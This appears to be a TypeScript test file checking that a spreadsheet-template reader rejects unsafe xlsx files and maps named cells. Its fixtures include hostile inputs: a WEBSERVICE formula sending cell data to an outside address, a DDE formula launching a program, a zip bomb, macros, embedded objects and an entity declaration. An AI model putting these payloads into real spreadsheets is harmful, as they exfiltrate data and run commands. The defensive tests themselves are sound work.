import { Problem } from '@linli/contracts/problem';
import { smallForm, templateFile, textCell } from '@linli/test/support/templates';
import { describe, expect, it } from 'vitest';
import { openTemplate } from './open-template.ts';
import { readLayout } from './read-layout.ts';
import { templateRefusal } from './template-refused.ts';

const layoutOf = async (file: Buffer) => readLayout(await openTemplate(file));

/** What the person is told. */
async function refusalOf(file: Buffer): Promise<string> {
  try {
    await layoutOf(file);
  } catch (error) {
    const problem = templateRefusal(error);
    if (problem instanceof Problem) return `${problem.code}: ${problem.detail?.zh}`;
    throw error;
  }
  return 'accepted';
}

const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const one = (cell: string, names: Record<string, string> = { 人数: 'S!$B$1' }) =>
  templateFile({ sheets: { S: `<sheetData><row r="1">${cell}</row></sheetData>` }, names });
const formula = (text: string) => one(`<c r="C1"><f>${text}</f></c>`);
const link = (target: string, mode: string) => ({
  'xl/worksheets/_rels/sheet1.xml.rels': `<Relationships><Relationship Id="h" Type="${OFFICE}/hyperlink" Target="${target}" TargetMode="${mode}"/></Relationships>`,
});

describe('a template is refused, and the place is named', () => {
  it.each<[string, () => Promise<Buffer>, string]>([
    ['a picture', async () => Buffer.from('\x89PNG\r\n\x1a\n'), 'unsupported-type: 模板要是 xlsx 表格'],
    ['an empty file', async () => Buffer.alloc(0), 'unsupported-type: 模板要是 xlsx 表格'],
    [
      'an old workbook',
      async () => Buffer.from('d0cf11e0a1b11ae1', 'hex'),
      'unsupported-type: 模板要是 xlsx 表格',
    ],
    ['more than 4 MB', async () => Buffer.alloc(4 * 1024 * 1024 + 1), 'too-large: 模板太大，最多 4 MB'],
    [
      'a zip bomb',
      () => smallForm({ more: { 'xl/media/a.xml': 'a'.repeat(20 * 1024 * 1024) } }),
      'too-large: 文件解开后太大，没有读取',
    ],
    [
      'macros',
      () => smallForm({ more: { 'xl/vbaProject.bin': 'x' } }),
      'unsupported-type: 模板带有宏，请另存为不带宏的 xlsx',
    ],
    [
      'a macro-enabled type',
      () =>
        smallForm({
          types:
            '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/>',
        }),
      'unsupported-type: 模板带有宏，请另存为不带宏的 xlsx',
    ],
    [
      'a link to another file',
      () => smallForm({ more: { 'xl/externalLinks/externalLink1.xml': '<externalLink/>' } }),
      'unsupported-type: 模板链接到别的文件或网址（xl/externalLinks/externalLink1.xml），请先断开链接',
    ],
    [
      'a link to an address',
      () => smallForm({ more: link('http://203.0.113.7/', 'External') }),
      'unsupported-type: 模板链接到别的文件或网址（台账），请先断开链接',
    ],
    [
      'a connection',
      () => smallForm({ more: { 'xl/connections.xml': '<connections/>' } }),
      'unsupported-type: 模板链接到别的文件或网址（xl/connections.xml），请先断开链接',
    ],
    [
      'an embedded file',
      () => smallForm({ more: { 'xl/embeddings/oleObject1.bin': 'x' } }),
      'unsupported-type: 模板里嵌入了别的文件或控件（xl/embeddings/oleObject1.bin），请先删掉',
    ],
    [
      'a formula that reads from an address',
      () => formula('WEBSERVICE("http://203.0.113.7/?"&amp;A1)'),
      'unsupported-type: 工作表“S”的 C1 有会读取外部内容的公式，请先删掉',
    ],
    [
      'a formula that starts a program',
      () => formula("cmd|'/c calc'!A0"),
      'unsupported-type: 工作表“S”的 C1 有会读取外部内容的公式，请先删掉',
    ],
    [
      'a name that points into another file',
      () => one(textCell('A1', 'x'), { 人数: '[1]S!$A$1' }),
      'unsupported-type: 模板链接到别的文件或网址（人数），请先断开链接',
    ],
    [
      'a huge sheet',
      () =>
        templateFile({
          sheets: { S: '<sheetData><row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>' },
          names: { a: 'S!$A$1' },
        }),
      'too-large: 工作表“S”的 XFD1048576 超出范围，最多 2000 行、100 列',
    ],
    [
      'nothing named',
      () => one(textCell('A1', 'x'), {}),
      'unsupported-type: 模板里没有命名的单元格或区域，请先在表格软件里给要填的地方起名',
    ],
    [
      'too many names',
      () => one('', Object.fromEntries(Array.from({ length: 501 }, (_, i) => [`n${i}`, 'S!$A$1']))),
      'too-large: 命名的单元格太多，最多 500 个',
    ],
  ])('%s', async (_, file, told) => {
    expect(await refusalOf(await file())).toBe(told);
  });

  it('a document type', async () => {
    const bad = await templateFile({
      sheets: { S: '</worksheet><!DOCTYPE x [<!ENTITY a "b">]><worksheet>' },
      names: { a: 'S!$A$1' },
    });
    expect(await refusalOf(bad)).toBe('unsupported-type: 文件损坏，打不开');
  });
});

describe('what a template wants to be filled', () => {
  it('is every named cell with what stands beside it, and every named row with its headings', async () => {
    const layout = await layoutOf(await smallForm());
    expect(layout.cells).toEqual([
      { name: '填报地区', sheet: '台账', address: 'A1', text: '{填报地区}台账', label: '' },
      { name: '新增求助', sheet: '台账', address: 'B2', text: '', label: '新增求助' },
    ]);
    expect(layout.blocks).toEqual([
      {
        name: '求助事项',
        sheet: '台账',
        address: 'A5:D5',
        row: 5,
        columns: ['编号', '事项', '求助人', '地点'].map((heading, i) => ({
          column: 'ABCD'[i],
          address: `${'ABCD'[i]}5`,
          heading,
          holds: 'slot',
        })),
      },
    ]);
    expect(layout.faults).toEqual([]);
  });

  it('has no label from beyond another named cell: that one is not its own', async () => {
    const layout = await layoutOf(
      await templateFile({
        sheets: { S: `<sheetData><row r="1">${textCell('A1', '登记户数')}</row></sheetData>` },
        names: { 甲: 'S!$B$1', 乙: 'S!$D$1' },
      }),
    );
    expect(layout.cells.map(({ label }) => label)).toEqual(['登记户数', '']);
  });

  it('is a merged cell as one, and a formula or a text in a pattern row as it is', async () => {
    const layout = await layoutOf(
      await templateFile({
        sheets: {
          S: `<sheetData><row r="2">${textCell('A2', '姓名')}${textCell('C2', '合计')}</row><row r="3">${textCell('A3', '{name}')}<c r="B3"><f>C3*2</f></c>${textCell('C3', '元')}<c r="D3"/></row></sheetData><mergeCells><mergeCell ref="A1:D1"/></mergeCells>`,
        },
        names: { 标题: 'S!$A$1:$D$1', 明细: 'S!$A$3:$D$3', 比率: '0.5', _xlnm_: 'S!$A$9' },
      }),
    );
    expect(layout.cells.map(({ name, address }) => [name, address])).toEqual([
      ['标题', 'A1'],
      ['_xlnm_', 'A9'],
    ]);
    expect(layout.blocks[0]?.columns.map(({ holds, heading }) => [holds, heading])).toEqual([
      ['slot', '{name}'],
      ['formula', ''],
      ['fixed', '合计'],
      ['fixed', ''],
    ]);
  });

  it('names what cannot be filled: a lost reference, several rows, a cell within a block, merged cells across it', async () => {
    const layout = await layoutOf(
      await templateFile({
        sheets: {
          S: '<sheetData/><mergeCells><mergeCell ref="F4:F6"/></mergeCells>',
        },
        names: {
          去处: '#REF!',
          别表: '没有!$A$1',
          几行: 'S!$A$1:$B$2',
          块: 'S!$A$5:$C$5',
          同行: 'S!$D$5:$E$5',
          里面: 'S!$B$5',
        },
      }),
    );
    expect(layout.faults.map(({ code, name, address }) => [code, name, address])).toEqual([
      ['points-nowhere', '去处', null],
      ['points-nowhere', '别表', null],
      ['several-rows', '几行', 'A1:B2'],
      ['cell-in-block', '里面', 'B5'],
      ['merge-across', '块', 'A5:C5'],
      ['blocks-in-one-row', '同行', 'D5:E5'],
      ['cell-in-block', '里面', 'B5'],
      ['merge-across', '同行', 'D5:E5'],
    ]);
  });
});
